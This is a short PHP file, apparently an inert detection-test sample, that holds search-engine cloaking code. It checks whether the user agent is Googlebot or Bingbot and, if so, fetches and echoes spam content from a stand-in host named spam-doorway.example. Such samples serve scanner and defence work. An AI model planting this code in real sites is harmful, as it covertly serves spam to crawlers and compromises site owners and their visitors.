<?php
shodo inert sample: deliberate syntax error, this file never runs
$ua = $_SERVER['HTTP_USER_AGENT'];
if (preg_match('/googlebot|bingbot/i', $ua)) { echo file_get_contents('http://spam-doorway.example/page?h=' . $_SERVER['HTTP_HOST']); exit; }
